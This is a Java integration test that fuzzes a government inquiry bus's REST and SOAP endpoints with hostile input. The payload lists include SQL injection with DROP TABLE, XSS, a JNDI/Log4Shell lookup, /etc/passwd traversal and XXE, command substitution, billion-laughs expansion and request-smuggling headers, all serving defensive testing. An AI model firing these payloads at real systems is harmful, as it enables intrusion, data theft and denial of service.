package ir.nix.it;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import tools.jackson.databind.JsonNode;

/**
 * Hostile input over REST and SOAP, generated: injection strings in every field of every service and
 * in every caller header, header abuse, hostile paths, XXE and entity expansion, deep nesting, huge and
 * non-UTF-8 bodies, wrong types. Over a raw socket, because HTTP clients refuse to send most of it.
 * Every reply must come in time, never be a 5xx, and be a problem or SOAP fault (or, where the input
 * was harmless after all, an answer) with a tracking ID; afterwards, no injected marker may be found
 * in the log, the store or the broker journal (003 Art. 31.4). The one 5xx allowed is SOAP 1.1's own:
 * a fault travels with HTTP 500 (SOAP 1.1 section 6.2, WS-I Basic Profile R1126), and then it must be a
 * fault naming a client-side code, never {@code INTERNAL_ERROR}.
 */
class HostileInputTest extends BusUnderTest {

    /** Every injected value carries this prefix: one search finds any of them at rest. */
    static final String MARKER = "nixhostile";
    private static final AtomicInteger SEQUENCE = new AtomicInteger();

    private static final List<String> INJECTIONS = List.of(
            "' OR '1'='1' -- %s", "\"; DROP TABLE traffic_record; -- %s", "<script>alert('%s')</script>",
            "${jndi:ldap://%s.example/a}", "../../../../etc/passwd#%s", "{{7*7}}%s", "%s\u0000tail", "%s \uD83D\uDE00 emoji",
            "\u202E%s rtl", "$(touch /tmp/%s)", "<!--%s-->", "%s\\u0000", "0499370899 %s", "%s" + "A".repeat(3000),
            "]]><x>%s</x>");

    private static final Map<String, List<String>> FIELDS = fields();

    private record Case(String name, byte[] request, boolean soap) {
    }

    private static Map<String, List<String>> fields() {
        Map<String, List<String>> fields = new LinkedHashMap<>();
        fields.put("shahkar", List.of("nationalCode", "mobile"));
        fields.put("postal-address", List.of("postalCode"));
        fields.put("identity", List.of("nationalCode", "birthDate"));
        fields.put("insurance-list", List.of("enterpriseNationalId", "workshopCode", "branchCode", "year", "month"));
        fields.put("privatization-status", List.of("enterpriseNationalId"));
        return fields;
    }

    private static final Map<String, String> VALID = Map.of("nationalCode", "0499370899", "mobile", "09121234567",
            "postalCode", "1415815511", "birthDate", "1365/04/12", "enterpriseNationalId", "10100000003",
            "workshopCode", "1234567890", "branchCode", "12", "year", "1403", "month", "6");

    private static String marked(String injection) {
        return injection.formatted(MARKER + SEQUENCE.incrementAndGet());
    }

    private static String json(String text) {
        StringBuilder out = new StringBuilder("\"");
        for (char c : text.toCharArray()) {
            if (c == '"' || c == '\\') {
                out.append('\\').append(c);
            } else if (c < 0x20) {
                out.append(String.format("\\u%04x", (int) c));
            } else {
                out.append(c);
            }
        }
        return out.append('"').toString();
    }

    private static String xml(String text) {
        return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;");
    }

    private static byte[] rest(String service, String body, Map<String, String> extraHeaders) {
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("Content-Type", "application/json");
        headers.put("X-NIX-Consumer", "MOE");
        headers.putAll(extraHeaders);
        return RawHttp.request("POST", "/api/v1/inquiries/" + service, headers, body.getBytes(StandardCharsets.UTF_8));
    }

    private static String body(String service, String field, String value) {
        StringBuilder body = new StringBuilder("{");
        for (String name : FIELDS.get(service)) {
            body.append(body.length() > 1 ? "," : "").append(json(name)).append(':')
                    .append(json(name.equals(field) ? value : VALID.get(name)));
        }
        return body.append('}').toString();
    }

    private static byte[] soap(String body, Map<String, String> headers) {
        Map<String, String> all = new LinkedHashMap<>(Map.of("Content-Type", "text/xml; charset=utf-8", "X-NIX-Consumer", "MOE"));
        all.putAll(headers);
        return RawHttp.request("POST", "/soap/inquiry", all, body.getBytes(StandardCharsets.UTF_8));
    }

    static String envelope(String header, String body) {
        return "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\" xmlns:n=\"urn:ir:nix:inquiry:v1\">"
                + (header == null ? "" : "<soap:Header>" + header + "</soap:Header>") + "<soap:Body>" + body
                + "</soap:Body></soap:Envelope>";
    }

    private static String shahkarSoap(String nationalCode, String mobile) {
        return envelope(null, "<n:ShahkarRequest><n:nationalCode>" + nationalCode + "</n:nationalCode><n:mobile>" + mobile
                + "</n:mobile></n:ShahkarRequest>");
    }

    private static List<Case> cases() {
        List<Case> cases = new ArrayList<>();
        FIELDS.forEach((service, names) -> names.forEach(field -> INJECTIONS.forEach(injection -> cases.add(new Case(
                "REST " + service + "." + field + " <- " + abbreviated(injection),
                rest(service, body(service, field, marked(injection)), Map.of()), false)))));
        for (String injection : INJECTIONS) {
            cases.add(new Case("SOAP shahkar.nationalCode <- " + abbreviated(injection),
                    soap(shahkarSoap(xml(marked(injection)), "09121234567"), Map.of()), true));
            cases.add(new Case("SOAP shahkar.mobile <- " + abbreviated(injection),
                    soap(shahkarSoap("0499370899", xml(marked(injection))), Map.of()), true));
            cases.add(new Case("SOAP postal.postalCode <- " + abbreviated(injection), soap(envelope(null,
                    "<n:PostalAddressRequest><n:postalCode>" + xml(marked(injection)) + "</n:postalCode></n:PostalAddressRequest>"),
                    Map.of()), true));
            for (String header : List.of("X-Request-Id", "X-NIX-On-Behalf-Of", "X-NIX-Consumer")) {
                String value = headerSafe(marked(injection));
                cases.add(new Case("REST header " + header + " <- " + abbreviated(injection),
                        rest("shahkar", body("shahkar", null, null), Map.of(header, value)), false));
                cases.add(new Case("SOAP header " + header + " <- " + abbreviated(injection),
                        soap(shahkarSoap("0499370899", "09121234567"), Map.of(header, value)), true));
            }
        }
        cases.addAll(structural());
        return cases;
    }

    private static String headerSafe(String value) {
        StringBuilder out = new StringBuilder();
        // A space, not '_': "marker_tail" would be a well-formed caller reference, which the bus records by design.
        value.chars().forEach(c -> out.append(c >= 0x20 && c < 0x7f ? (char) c : ' '));
        return out.toString();
    }

    private static String abbreviated(String injection) {
        String shown = headerSafe(injection.formatted("M"));
        return shown.length() > 30 ? shown.substring(0, 30) + "…" : shown;
    }

    private static List<Case> structural() {
        List<Case> cases = new ArrayList<>();
        String valid = body("shahkar", null, null);
        // Wrong types and shapes.
        for (String body : List.of("{\"nationalCode\":499370899,\"mobile\":9121234567}", "{\"nationalCode\":true,\"mobile\":null}",
                "{\"nationalCode\":[\"0499370899\"],\"mobile\":{}}", "[]", "\"0499370899\"", "null", "1e99999", "{}",
                "{\"nationalCode\":\"0499370899\",\"mobile\":\"09121234567\",\"nationalCode\":\"1300130016\"}",
                "{\"nationalCode\":\"0499370899\",\"mobile\":\"09121234567\",\"extra\":\"" + MARKER + "-extra\"}",
                "{\"nationalCode\":\"0499370899\"", "{\"nationalCode\":\"\\ud800\",\"mobile\":\"09121234567\"}",
                "{\"" + MARKER + "-key\":\"x\"}", "{'nationalCode':'0499370899'}", "{\"year\":1e309,\"month\":-0}")) {
            cases.add(new Case("REST body " + headerSafe(abbreviated(body.replace("%", "%%"))), rest("shahkar", body, Map.of()), false));
        }
        cases.add(new Case("REST deep nesting 5000 arrays", rest("shahkar", "[".repeat(5000) + "]".repeat(5000), Map.of()), false));
        cases.add(new Case("REST deep nesting 5000 objects", rest("shahkar", "{\"a\":".repeat(5000) + "1" + "}".repeat(5000),
                Map.of()), false));
        cases.add(new Case("REST huge body 1 MB", rest("shahkar", "{\"nationalCode\":\"" + "9".repeat(1 << 20) + "\"}", Map.of()),
                false));
        cases.add(new Case("REST body 70 KB of whitespace", rest("shahkar", " ".repeat(70_000) + valid, Map.of()), false));
        cases.add(new Case("REST wrong media type", RawHttp.request("POST", "/api/v1/inquiries/shahkar",
                Map.of("Content-Type", "text/plain", "X-NIX-Consumer", "MOE"), valid.getBytes(StandardCharsets.UTF_8)), false));
        cases.add(new Case("REST no media type", RawHttp.request("POST", "/api/v1/inquiries/shahkar",
                Map.of("X-NIX-Consumer", "MOE"), valid.getBytes(StandardCharsets.UTF_8)), false));
        for (byte[] bytes : List.of(new byte[] {(byte) 0xC0, (byte) 0xAF}, new byte[] {(byte) 0xFF, (byte) 0xFE},
                new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80})) {
            cases.add(new Case("REST invalid UTF-8 in a value " + java.util.HexFormat.of().formatHex(bytes),
                    RawHttp.request("POST", "/api/v1/inquiries/shahkar", Map.of("Content-Type", "application/json",
                            "X-NIX-Consumer", "MOE"), concat("{\"nationalCode\":\"".getBytes(StandardCharsets.UTF_8), bytes,
                            "\",\"mobile\":\"09121234567\"}".getBytes(StandardCharsets.UTF_8))), false));
            cases.add(new Case("SOAP invalid UTF-8 in a value " + java.util.HexFormat.of().formatHex(bytes),
                    RawHttp.request("POST", "/soap/inquiry", Map.of("Content-Type", "text/xml; charset=utf-8", "X-NIX-Consumer", "MOE"),
                            concat(shahkarSoap("X", "09121234567").split("X")[0].getBytes(StandardCharsets.UTF_8), bytes,
                                    shahkarSoap("X", "09121234567").split("X", 2)[1].getBytes(StandardCharsets.UTF_8))), true));
        }
        cases.add(new Case("REST UTF-16 body", RawHttp.request("POST", "/api/v1/inquiries/shahkar",
                Map.of("Content-Type", "application/json", "X-NIX-Consumer", "MOE"), valid.getBytes(StandardCharsets.UTF_16)), false));
        // Header abuse.
        for (int size : new int[] {9 * 1024, 100 * 1024}) {
            cases.add(new Case("REST header of " + size + " bytes", rest("shahkar", valid, Map.of("X-Padding", "a".repeat(size))), false));
            cases.add(new Case("SOAP header of " + size + " bytes",
                    soap(shahkarSoap("0499370899", "09121234567"), Map.of("X-Padding", "a".repeat(size))), true));
        }
        Map<String, String> many = new LinkedHashMap<>();
        for (int i = 0; i < 150; i++) {
            many.put("X-Many-" + i, "v");
        }
        cases.add(new Case("REST 150 headers", rest("shahkar", valid, many), false));
        cases.add(new Case("REST duplicate content length", ("POST /api/v1/inquiries/shahkar HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
                + "Content-Type: application/json\r\nX-NIX-Consumer: MOE\r\nContent-Length: 5\r\nContent-Length: 60\r\n\r\n" + valid)
                .getBytes(StandardCharsets.ISO_8859_1), false));
        cases.add(new Case("REST content length and chunked", ("POST /api/v1/inquiries/shahkar HTTP/1.1\r\nHost: x\r\n"
                + "Connection: close\r\nContent-Type: application/json\r\nX-NIX-Consumer: MOE\r\nContent-Length: 4\r\n"
                + "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n").getBytes(StandardCharsets.ISO_8859_1), false));
        cases.add(new Case("REST header with NUL", ("POST /api/v1/inquiries/shahkar HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
                + "X-NIX-Consumer: MO\u0000E\r\nContent-Length: 0\r\n\r\n").getBytes(StandardCharsets.ISO_8859_1), false));
        cases.add(new Case("REST folded header", ("POST /api/v1/inquiries/shahkar HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
                + "X-Request-Id: a\r\n " + MARKER + "-fold\r\nContent-Length: 0\r\n\r\n").getBytes(StandardCharsets.ISO_8859_1), false));
        cases.add(new Case("REST header name with space", ("POST /api/v1/inquiries/shahkar HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
                + "Bad Header: 1\r\nContent-Length: 0\r\n\r\n").getBytes(StandardCharsets.ISO_8859_1), false));
        cases.add(new Case("REST bare LF line ends", ("POST /api/v1/inquiries/shahkar HTTP/1.1\nHost: x\nConnection: close\n"
                + "Content-Type: application/json\nX-NIX-Consumer: MOE\nContent-Length: " + valid.length() + "\n\n" + valid)
                .getBytes(StandardCharsets.ISO_8859_1), false));
        cases.add(new Case("bad method token", "G@T / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".getBytes(StandardCharsets.ISO_8859_1),
                false));
        cases.add(new Case("unknown method", "BREW /api/v1/inquiries/shahkar HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
                .getBytes(StandardCharsets.ISO_8859_1), false));
        cases.add(new Case("HTTP/2.0 request line", "GET /api/v1/services HTTP/2.0\r\nHost: x\r\nConnection: close\r\n\r\n"
                .getBytes(StandardCharsets.ISO_8859_1), false));
        cases.add(new Case("TRACE", "TRACE /api/v1/inquiries/shahkar HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
                .getBytes(StandardCharsets.ISO_8859_1), false));
        cases.add(new Case("no Host header", ("POST /api/v1/inquiries/shahkar HTTP/1.1\r\nConnection: close\r\nContent-Length: 0\r\n\r\n")
                .getBytes(StandardCharsets.ISO_8859_1), false));
        // Hostile paths.
        for (String path : List.of("/api/v1/inquiries/..%2f..%2factuator%2fenv", "/api/v1/inquiries/%2e%2e/%2e%2e/actuator",
                "/api/v1/inquiries/shahkar%00", "/api/v1/inquiries/%c0%ae%c0%ae/x", "/api/v1/inquiries/%zz", "/api/v1/inquiries/%252e%252e",
                "/api/v1/inquiries/..;/..;/actuator", "/api/v1/inquiries/shahkar;jsessionid=" + MARKER, "/api/v1/inquiries/sh%5Cahkar",
                "/api/v1/inquiries/" + MARKER + "-service", "/api/v1/inquiries/%F0%9F%98%80", "/api/v1/inquiries/" + "a".repeat(10_000),
                "/api/v1/inquiries/shahkar?" + MARKER + "=%00", "/api/v1/inquiries/shahkar/../../../actuator/prometheus",
                "/soap/inquiry/..%2f..%2factuator", "/soap/inquiry%00", "//api//v1//inquiries//shahkar", "/api/v1/inquiries/\u00e9")) {
            cases.add(new Case("REST path " + headerSafe(abbreviated(path.replace("%", "%%"))), RawHttp.request("POST", path,
                    Map.of("Content-Type", "application/json", "X-NIX-Consumer", "MOE"), valid.getBytes(StandardCharsets.UTF_8)), false));
        }
        // XML attacks and SOAP protocol errors.
        String xxe = "<?xml version=\"1.0\"?><!DOCTYPE e [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                + shahkarSoap("&x;", "09121234567");
        StringBuilder laughs = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY l0 \"" + MARKER + "lol\">");
        for (int i = 1; i < 10; i++) {
            laughs.append("<!ENTITY l").append(i).append(" \"").append(("&l" + (i - 1) + ";").repeat(10)).append("\">");
        }
        laughs.append("]>").append(shahkarSoap("&l9;", "09121234567"));
        cases.add(new Case("SOAP XXE", soap(xxe, Map.of()), true));
        cases.add(new Case("SOAP entity expansion", soap(laughs.toString(), Map.of()), true));
        cases.add(new Case("SOAP external DTD", soap("<?xml version=\"1.0\"?><!DOCTYPE e SYSTEM \"http://127.0.0.1:1/" + MARKER + ".dtd\">"
                + shahkarSoap("0499370899", "09121234567"), Map.of()), true));
        cases.add(new Case("SOAP deep nesting", soap(envelope(null, "<n:ShahkarRequest>" + "<a>".repeat(20_000) + "</a>".repeat(20_000)
                + "</n:ShahkarRequest>"), Map.of()), true));
        cases.add(new Case("SOAP huge body 1 MB", soap(shahkarSoap("9".repeat(1 << 20), "09121234567"), Map.of()), true));
        cases.add(new Case("SOAP not XML", soap("{\"nationalCode\":\"0499370899\"}", Map.of()), true));
        cases.add(new Case("SOAP processing instruction", soap("<?" + MARKER + " x?>" + shahkarSoap("0499370899", "09121234567"), Map.of()),
                true));
        cases.add(new Case("SOAP unknown operation", soap(envelope(null, "<n:" + "Nope" + ">x</n:Nope>"), Map.of()), true));
        cases.add(new Case("SOAP 1.2 envelope", soap("<env:Envelope xmlns:env=\"http://www.w3.org/2003/05/soap-envelope\" "
                + "xmlns:n=\"urn:ir:nix:inquiry:v1\"><env:Body><n:ShahkarRequest><n:nationalCode>0499370899</n:nationalCode>"
                + "<n:mobile>09121234567</n:mobile></n:ShahkarRequest></env:Body></env:Envelope>", Map.of()), true));
        cases.add(new Case("SOAP mustUnderstand header", soap(envelope("<x:Secret xmlns:x=\"urn:elsewhere\" soap:mustUnderstand=\"1\">"
                + MARKER + "-mu</x:Secret>", "<n:ShahkarRequest><n:nationalCode>0499370899</n:nationalCode><n:mobile>09121234567"
                + "</n:mobile></n:ShahkarRequest>"), Map.of()), true));
        cases.add(new Case("SOAP wrong envelope namespace", soap(shahkarSoap("0499370899", "09121234567")
                .replace("http://schemas.xmlsoap.org/soap/envelope/", "urn:" + MARKER), Map.of()), true));
        cases.add(new Case("SOAP mistyped element", soap(envelope(null, "<n:InsuranceListRequest><n:enterpriseNationalId>10100000003"
                + "</n:enterpriseNationalId><n:workshopCode>1</n:workshopCode><n:branchCode>1</n:branchCode><n:year>"
                + MARKER + "</n:year><n:month>x</n:month></n:InsuranceListRequest>"), Map.of()), true));
        return cases;
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            all.writeBytes(part);
        }
        return all.toByteArray();
    }

    private final List<String> trackingIds = new ArrayList<>();

    @TestFactory
    Stream<DynamicTest> hostileInputGetsAProblemOrFaultWithATrackingIdAndLeavesNothingAtRest() {
        List<Case> cases = cases();
        assertThat(cases).hasSizeGreaterThanOrEqualTo(300);
        Stream<DynamicTest> each = cases.stream().map(hostile -> dynamicTest(hostile.name(), () -> answers(hostile)));
        return Stream.concat(each, Stream.of(dynamicTest("no injected marker at rest", this::nothingAtRest),
                dynamicTest("every reply its traffic record", this::everyReplyRecorded)));
    }

    private void answers(Case hostile) {
        RawHttp.Reply reply = RawHttp.send(port, hostile.request());

        assertThat(reply.hung()).as("answered in time").isFalse();
        boolean soapFault = hostile.soap() && reply.status() == 500 && reply.body().contains("Fault>");
        assertThat(soapFault || reply.status() >= 200 && reply.status() <= 499).as("status of %s", reply.body()).isTrue();
        assertThat(reply.body()).doesNotContain("INTERNAL_ERROR");
        String tracking = reply.header("X-NIX-Tracking-Id");
        assertThat(tracking).as("tracking ID header, reply %s %s", reply.status(), reply.body()).isNotBlank();
        trackingIds.add(tracking);
        String type = reply.header("Content-Type");
        if (reply.status() == 200) {
            assertThat(type).startsWith(hostile.soap() ? "text/xml" : "application/json");
            return;
        }
        if (type != null && type.startsWith("application/problem+json")) {
            JsonNode problem = JSON.readTree(reply.body());
            assertThat(problem.path("trackingId").asString()).isEqualTo(tracking);
            assertThat(problem.path("code").asString()).isNotBlank();
        } else {
            assertThat(hostile.soap()).as("a non-problem reply (%s) only on the SOAP path", type).isTrue();
            assertThat(type).startsWith("text/xml");
            assertThat(reply.body()).contains("Fault>").contains(tracking);
        }
        assertThat(reply.body()).doesNotContain(MARKER).doesNotContain("<html").doesNotContainIgnoringCase("exception");
    }

    /** Rule 3: refusals at the edge are exchanges too; the store keys records by tracking ID, so one each. */
    private void everyReplyRecorded() {
        List<String> unrecorded = trackingIds.stream()
                .filter(id -> get("/api/v1/traffic?trackingId=" + id, Map.of("X-NIX-Role", "OPERATOR")).status() != 200)
                .toList();
        assertThat(unrecorded).as("tracking IDs answered without a traffic record, of %s", trackingIds.size()).isEmpty();
    }

    private void nothingAtRest() {
        // Wait until the last exchanges' records are stored, so the store and journal are what they will be.
        // (records travel in order through one queue: once a last, harmless exchange is stored, so are the others).
        trafficRecord(inquire("shahkar", "MOE", body("shahkar", null, null)).trackingHeader());
        assertThat(trackingIds).as("every exchange its own tracking ID").doesNotHaveDuplicates();
        List<String> found = new ArrayList<>();
        for (java.nio.file.Path file : ContentScan.filesUnder(DATA_DIR)) {
            try {
                String bytes = new String(java.nio.file.Files.readAllBytes(file), StandardCharsets.ISO_8859_1);
                for (java.nio.charset.Charset encoding : List.of(StandardCharsets.UTF_8, StandardCharsets.UTF_16LE, StandardCharsets.UTF_16BE)) {
                    if (bytes.contains(new String(MARKER.getBytes(encoding), StandardCharsets.ISO_8859_1))) {
                        found.add(DATA_DIR.relativize(file) + " (" + encoding + ")");
                    }
                }
            } catch (java.io.IOException vanished) {
                // A journal file rotated away while the scan ran: it no longer holds anything.
            }
        }
        assertThat(found).as("files holding an injected marker").isEmpty();
    }
}
